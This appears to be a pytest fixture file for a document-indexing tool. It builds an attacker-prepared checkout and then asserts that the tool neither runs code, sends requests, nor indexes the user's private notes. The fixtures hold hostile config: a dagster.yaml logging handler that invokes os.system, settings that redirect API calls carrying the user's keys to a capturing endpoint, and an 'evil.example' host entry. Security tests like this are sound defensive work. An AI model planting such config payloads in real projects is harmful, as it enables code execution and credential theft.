"""A user, and a checkout prepared by an attacker: if docindex does what the checkout asks for, it leaves a trace."""

import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from http.server import HTTPServer
from io import StringIO
from pathlib import Path
from threading import Thread

import pytest

from docindex_dagster.core.trust import hidden_name
from tests.cli.conftest import exit_code
from tests.loopback import Handler

PRIVATE = "The combination of the safe is marmot-4711-basalt."
RC = "# mine\n"
LONGEST_S = 90


class _Endpoint(Handler):
    """Endpoint of the attacker, which records all requests."""

    received: list[str]

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.received.append(f"{self.path} {dict(self.headers)} {self.rfile.read(length)!r}")
        self.answer(500)

    do_GET = do_POST


@dataclass
class Hostile:
    """Checkout whose `docindex.toml` and `dagster.yaml` ask for everything that needs trust."""

    root: Path
    user: Path
    private: Path
    pwned: Path
    url: str
    captured: pytest.CaptureFixture[str]
    received: list[str] = field(default_factory=list)

    @property
    def environment(self) -> dict[str, str]:
        """Environment of the user, who trusts nothing and has API keys."""
        kept = {name: value for name, value in os.environ.items() if not name.startswith(("DOCINDEX_", "DAGSTER_"))}
        return kept | {
            "HOME": str(self.user),
            "XDG_CONFIG_HOME": str(self.user / "config"),
            "XDG_CACHE_HOME": str(self.user / "cache"),
            "DOCINDEX_CEILING_DIRECTORIES": str(self.root.parent),
            "DOCINDEX_EMBEDDING__API_KEY": "key-of-the-user",
            "DOCINDEX_LLM__API_KEY": "key-of-the-user",
        }

    @property
    def home(self) -> Path:
        """The user's home for the checkout."""
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("XDG_CONFIG_HOME", self.environment["XDG_CONFIG_HOME"])
            return self.root / ".docindex" / str(hidden_name(self.root, make=False))

    def run(self, *arguments: str, cwd: Path | None = None, **variables: str) -> "subprocess.CompletedProcess[str]":
        """Run `docindex ARGUMENTS` in the checkout as the user, in this process, which is ten times faster."""
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sys, "argv", ["docindex", *arguments])
            patch.setattr(sys, "stdin", StringIO())
            for name in os.environ.keys() - self.environment.keys():
                patch.delenv(name)
            for name, value in (self.environment | variables).items():
                patch.setenv(name, value)
            patch.chdir(cwd or self.root)
            self.captured.readouterr()
            code = exit_code()
            out, err = self.captured.readouterr()
        return subprocess.CompletedProcess(arguments, code, out, err)

    def start(self, *arguments: str, cwd: Path | None = None, **variables: str) -> "subprocess.CompletedProcess[str]":
        """Run `docindex ARGUMENTS` in its own process."""
        return subprocess.run(
            [sys.executable, "-P", "-m", "docindex_dagster.cli", *arguments],
            cwd=cwd or self.root,
            env=self.environment | variables,
            capture_output=True,
            text=True,
            timeout=LONGEST_S,
            stdin=subprocess.DEVNULL,
            check=False,
        )

    def check(self) -> None:
        """Check that nothing ran, nothing was sent, and no private text was indexed."""
        assert not self.pwned.exists()
        assert self.received == []
        assert self.private.read_text() == PRIVATE
        for place in (self.root, self.user):
            for file in place.rglob("*"):
                if file.is_file() and file != self.private:
                    assert PRIVATE.encode() not in file.read_bytes(), file


@pytest.fixture
def hostile(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> Iterator[Hostile]:
    root, user = tmp_path / "checkout", tmp_path / "user"
    private = user / "notes" / "private.md"
    private.parent.mkdir(parents=True)
    private.write_text(PRIVATE)
    root.mkdir()
    (root / "guide.md").write_text("# Pumps\n\nHow a pump is primed with water.\n")
    received: list[str] = []
    with ExitStack() as stack:
        endpoint = HTTPServer(("127.0.0.1", 0), type("Endpoint", (_Endpoint,), {"received": received}))
        stack.callback(endpoint.server_close)
        Thread(target=endpoint.serve_forever, daemon=True).start()
        stack.callback(endpoint.shutdown)
        url = f"http://127.0.0.1:{endpoint.server_port}/v1"
        found = Hostile(root, user, private, tmp_path / "pwned", url, capfd, received)
        (root / "docindex.toml").write_text(settings_of(found))
        (root / "dagster.yaml").write_text(instance_of(found))
        yield found


@pytest.fixture
def own(hostile):
    """Index the checkout with settings that ask for nothing. The user has a `.bashrc`."""
    (hostile.root / "docindex.toml").write_text('[[source]]\nkind = "library"\npath = "."\nname = "own"\n')
    (hostile.root / "dagster.yaml").unlink()
    (hostile.root / "pump.py").write_text("def prime():\n    return fill()\n\n\ndef fill():\n    return 1\n")
    assert hostile.run("index").returncode == 0
    (hostile.user / ".bashrc").write_text(RC)
    return hostile


def settings_of(hostile: Hostile) -> str:
    return f"""
discovery = {{ secrets = "index", max_file_bytes = 100000 }}
embedding = {{ provider = "openai", model = "m", base_url = "{hostile.url}", batch_size = 7 }}
llm = {{ provider = "openai", model = "m", base_url = "{hostile.url}" }}
rerank = {{ provider = "remote", url = "{hostile.url}/rerank", model = "m" }}
summaries = {{ enabled = true }}
search = {{ top_k = 3 }}
memory = {{ retention_days = 1 }}
serve = {{ hosts = ["evil.example"], trace_texts = true }}

[[source]]
kind = "library"
path = "."
name = "own"

[[source]]
kind = "library"
path = "{hostile.private.parent}"
name = "private"
"""


def instance_of(hostile: Hostile) -> str:
    """Return a Dagster instance config. Its logging handler may be any callable with any arguments."""
    return f"""
python_logs:
  dagster_handler_config:
    handlers:
      evil:
        (): os.system
        command: touch {hostile.pwned}
"""
